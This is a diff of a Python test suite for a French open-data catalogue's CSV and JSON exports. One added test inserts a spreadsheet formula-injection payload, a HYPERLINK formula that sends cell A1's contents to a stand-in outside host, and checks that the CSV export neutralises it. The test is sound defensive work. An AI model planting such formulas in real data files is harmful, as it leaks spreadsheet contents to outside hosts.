@@ -188,14 +188,14 @@ def test_csv_round_trips_hostile_text(repo: Path) -> None:
     replace(
         repo,
         "fiches/initiative-solidaire.md",
-        "title: Qu'est-ce qu'une initiative solidaire ?",
-        "title: " + json.dumps(hostile, ensure_ascii=False),
+        "description: Une fiche thématique de test sur l'économie solidaire et ses initiatives.",
+        "description: " + json.dumps(hostile, ensure_ascii=False),
     )
     files = exports(repo)
     assert check(repo).ok
     row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
-    assert row["title"] == hostile
-    assert next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")["title"] == hostile
+    assert row["description"] == hostile
+    assert next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")["description"] == hostile
     assert len(csv_rows(files)) == len(PUBLISHED)
 
 
@@ -219,6 +219,24 @@ def test_open_data_page_explains_every_column_in_french() -> None:
         label, meaning = column_doc(name)
         assert f"| {label} | `{name}` | {meaning} |" in page, name
     assert "donnees/catalogue-tableur.csv){ .md-button .md-button--primary download }" in page
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_neutralises_formulas_json_keeps_them(repo: Path, start: str) -> None:
+    """A title a spreadsheet would run (`=HYPERLINK(…)`) starts with an apostrophe in the CSV only."""
+    title = f'{start}HYPERLINK("https://exemple.org/?"&A1;"clic")'
+    replace(repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", "title: " + json.dumps(title))
+    replace(repo, "fiches/initiative-solidaire.md", "authors: [Équipe de test]", "authors: ['@équipe', Équipe de test]")
+    assert check(repo).ok
+    files = exports(repo)
+    row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
+    assert row["title"] == "'" + title
+    assert row["authors"] == "'@équipe;Équipe de test"
+    assert all(not value.startswith(("=", "+", "-", "@")) for r in csv_rows(files) for value in r.values())
+    spreadsheet = list(csv.reader(io.StringIO(files["catalogue-tableur.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in spreadsheet for cell in row)
+    record = next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")
+    assert (record["title"], record["authors"]) == (title, ["@équipe", "Équipe de test"])
 
 
 def test_csv_flattens_the_visit(repo: Path) -> None:
@@ -328,6 +346,10 @@ def test_schema_validates_the_front_matter_the_model_accepts(repo: Path, collect
         ("themes", ["cooperation", "cooperation"]),  # duplicate
         ("kind", "autre"),
         ("number", "2.x"),
+        ("number", "２.１"),  # full-width digits
+        ("number", "1" * 5000),
+        ("number", "1.2.3.4.5.6"),
+        ("authors", ["Alice; Bob"]),
         ("date", "15/01/2026"),
         ("authors", []),
     ],
